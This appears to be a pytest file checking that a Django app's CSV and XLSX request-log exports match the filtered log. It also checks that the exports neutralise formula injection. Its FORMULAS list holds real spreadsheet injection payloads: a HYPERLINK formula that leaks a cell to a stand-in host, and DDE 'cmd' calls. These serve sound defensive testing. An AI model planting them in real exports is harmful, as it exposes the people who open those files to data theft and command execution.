"""The CSV and XLSX downloads hold exactly the filtered log: same requests, same order, same fields.

Each is read back (the CSV with the csv module, the workbook with openpyxl) and compared
with the page's rows and with `export_rows`, the one source of the 24-74-106 fields.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from custodiet.policy.model import parse_request
from custodiet.records.actions import receive_and_decide
from custodiet.records.export import EXPORT_FIELDS, LogFilter, export_rows
from custodiet.records.spreadsheet import safe_row
from custodiet.reports.exports import HEADINGS

from . import pages
from .conftest import ROBBERY, contract
from .filters import FILTERS


def csv_rows(response) -> list[dict[str, str]]:
    assert response.streaming, "the CSV is sent as it is produced"
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(body, newline="")))


def workbook(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


# The workbook's header: the CSV's, but for the rules' outcome, named so for people.
HEADER = [HEADINGS.get(field, field) for field in EXPORT_FIELDS]


def test_the_workbook_calls_the_outcome_the_rules_not_the_final_status():
    assert HEADER[EXPORT_FIELDS.index("outcome")] == "rules' outcome"
    assert HEADER.count("final_status") == 1


@pytest.mark.parametrize(("query", "pick"), FILTERS)
def test_both_downloads_hold_the_rows_the_page_shows(log, privacy_officer, signed_in, query, pick):
    client = signed_in(privacy_officer)
    shown = pages.row_ids(client.get("/log/", query))
    assert shown == [record.public_id for record in log if pick(record)]

    from_csv = csv_rows(client.get("/log/export.csv", query))
    assert [row["request_id"] for row in from_csv] == shown

    book = workbook(client.get("/log/export.xlsx", query))
    sheet = book["Requests"]
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == shown


def test_the_csv_has_the_24_74_106_fields_exactly_as_export_rows_gives_them(
    log, agency, privacy_officer, signed_in
):
    response = signed_in(privacy_officer).get(
        "/log/export.csv", {"start": "2025-03-01", "immigration_related": "yes"}
    )

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"] == 'attachment; filename="request-log-from-2025-03-01.csv"'
    )
    rows = csv_rows(response)
    assert list(rows[0]) == EXPORT_FIELDS
    expected = export_rows(
        LogFilter(agency=agency, start=dt.date(2025, 3, 1), immigration_related=True)
    )
    assert rows == [safe_row(row) for row in expected]
    assert len(rows) == 3  # the fourth is the State Patrol's


def test_the_csv_is_byte_for_byte_what_the_command_writes(
    log, privacy_officer, signed_in, tmp_path
):
    out = tmp_path / "log.csv"
    call_command(
        "requests",
        "export",
        "--from",
        "2025-01-01",
        "--to",
        "2025-03-31",
        "--out",
        str(out),
        "--agency",
        "CO-DOR-DMV",
        stderr=io.StringIO(),
    )
    response = signed_in(privacy_officer).get(
        "/log/export.csv", {"start": "2025-01-01", "end": "2025-03-31"}
    )
    assert b"".join(response.streaming_content) == out.read_bytes()


def test_the_workbook_has_a_bold_header_widths_real_dates_and_text_kept_as_text(
    log, agency, privacy_officer, signed_in
):
    response = signed_in(privacy_officer).get("/log/export.xlsx", {"start": "2025-04-01"})

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert (
        response["Content-Disposition"] == 'attachment; filename="request-log-from-2025-04-01.xlsx"'
    )
    book = workbook(response)
    assert book.sheetnames == ["Requests", "By month"]
    sheet = book["Requests"]
    header = next(sheet.iter_rows(max_row=1))
    assert [cell.value for cell in header] == HEADER
    assert all(cell.font.bold for cell in header)
    assert sheet.column_dimensions["A"].width == 22
    assert sheet.column_dimensions["O"].width == 60  # the reasons
    assert sheet.freeze_panes == "B2"

    expected = list(export_rows(LogFilter(agency=agency, start=dt.date(2025, 4, 1))))
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(expected) == 3
    for cells, row in zip(rows, expected, strict=True):
        for cell, field in zip(cells, EXPORT_FIELDS, strict=True):
            if field in {"date_received", "decided_at", "released_or_refused_at"} and row[field]:
                # A date the spreadsheet can sort and sum, in the agency's local time.
                assert cell.is_date
                assert cell.value == dt.datetime.fromisoformat(row[field]).replace(tzinfo=None)
            else:
                assert (cell.value or "") == row[field], field
    first = rows[0]
    assert first[1].value == dt.datetime(2025, 4, 1, 0, 10)
    assert first[1].number_format == "yyyy-mm-dd hh:mm"
    # A purpose that looks like a formula is stored as text, never as a formula to run.
    hyperlink = rows[2][EXPORT_FIELDS.index("purpose_stated")]
    assert hyperlink.value == '=HYPERLINK("http://example.invalid")'
    assert hyperlink.data_type == "s"


def test_the_workbooks_second_sheet_has_the_monthly_counts_of_the_chart(
    log, privacy_officer, signed_in
):
    client = signed_in(privacy_officer)
    query = {"start": "2024-12-01", "end": "2025-04-30"}
    table = pages.month_table(client.get("/log/", query))

    sheet = workbook(client.get("/log/export.xlsx", query))["By month"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (
        "Month",
        "Refuse",
        "Legal review",
        "Eligible",
        "Total",
        "Immigration-related",
    )
    months = {f"{row[0]:%Y-%m}": list(row[1:]) for row in rows[1:-1]}
    assert months == table
    assert list(months) == ["2024-12", "2025-01", "2025-02", "2025-03", "2025-04"]
    assert rows[-1][0] == "Total"
    assert list(rows[-1][1:]) == [sum(column) for column in zip(*months.values(), strict=True)]
    assert sheet["A2"].number_format == "mmm yyyy"


def test_an_empty_selection_downloads_the_header_alone(log, privacy_officer, signed_in):
    client = signed_in(privacy_officer)
    assert csv_rows(client.get("/log/export.csv", {"channel": "portal"})) == []
    sheet = workbook(client.get("/log/export.xlsx", {"channel": "portal"}))["Requests"]
    assert [row for row in sheet.iter_rows(values_only=True)] == [tuple(HEADER)]


# Cells a spreadsheet would run: OWASP's list, and what attackers write after them.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&B2, "open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _opened_as_a_spreadsheet_would(lines: list[list[str]]):
    """Each cell typed into a worksheet, as a spreadsheet program imports a CSV."""
    sheet = Workbook().active
    for row in lines:
        sheet.append(row)
    return sheet


def test_no_cell_of_either_csv_export_is_read_as_a_formula(
    agency, privacy_officer, signed_in, tmp_path
):
    requests = [
        contract(
            f"2025-04-{day:02d}T09:00",
            ROBBERY,
            {"purpose": formula, "requester": {"name": formula}},
        )
        for day, formula in enumerate(FORMULAS, start=1)
    ]
    receive_and_decide([parse_request(r) for r in requests], actor="import:test", agency=agency)
    response = signed_in(privacy_officer).get("/log/export.csv")
    web = b"".join(response.streaming_content).decode()
    out = tmp_path / "log.csv"
    call_command("requests", "export", "--out", str(out), stderr=io.StringIO())

    for text in (web, out.read_text(encoding="utf-8")):
        lines = list(csv.reader(io.StringIO(text, newline="")))
        assert len(lines) == 1 + len(FORMULAS)
        sheet = _opened_as_a_spreadsheet_would(lines)
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert not [cell.value for cell in cells if str(cell.value)[0] in "=+-@\t\r"]
        purposes = [row[EXPORT_FIELDS.index("purpose_stated")] for row in lines[1:]]
        # The words are all there (stripped at intake), behind the quote that keeps them text.
        assert purposes == ["'" + formula.strip() for formula in FORMULAS]
